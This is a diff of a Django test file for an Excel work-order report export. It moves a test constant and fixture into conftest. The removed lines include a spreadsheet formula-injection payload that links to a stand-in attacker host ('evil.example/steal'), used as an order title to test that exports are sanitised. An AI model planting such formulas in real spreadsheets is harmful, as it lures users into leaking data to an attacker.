@@ -17,38 +17,12 @@ from django.urls import reverse
 from govdesk.audit.models import AuditEvent
 from govdesk.reports import selectors
 from govdesk.reports.labels import ORDER_HEADERS
-from govdesk.workorders.states import Status
-from govdesk.workorders.tests.factories import make_order
 
-from .conftest import SHANGHAI, body_of, workbook_of
+from .conftest import INJECTION, SHANGHAI, body_of, workbook_of
 
 pytestmark = pytest.mark.django_db
 URL = "/reports/orders.xlsx"
-INJECTION = '=HYPERLINK("http://evil.example/steal","点我")'
 HEADERS = [h for h, _w in ORDER_HEADERS]
-
-
-@pytest.fixture
-def orders(people: SimpleNamespace, district: SimpleNamespace, categories: SimpleNamespace) -> SimpleNamespace:
-    with time_machine.travel(datetime(2026, 9, 1, 10, 0, tzinfo=SHANGHAI), tick=False):
-        new = make_order(people, district, categories.facilities, Status.NEW, title=INJECTION)
-    with time_machine.travel(datetime(2026, 9, 8, 10, 0, tzinfo=SHANGHAI), tick=False):
-        handling = make_order(people, district, categories.housing, Status.HANDLING, title="+86 来电 @住建")
-        wages = make_order(
-            people,
-            district,
-            categories.wages,
-            Status.DISPATCHED,
-            unit=district.dept_b,
-            handler=people.handler_b,
-            channel="web",
-            citizen_phone="13900001111",
-            citizen_name="李四",
-            confidential=True,
-        )
-    with time_machine.travel(datetime(2026, 9, 15, 10, 0, tzinfo=SHANGHAI), tick=False):
-        closed = make_order(people, district, categories.bus, Status.CLOSED, title="公交改线")
-    return SimpleNamespace(new=new, handling=handling, wages=wages, closed=closed)
 
 
 def rows_by_number(response: Any) -> dict[str, dict[str, Any]]:
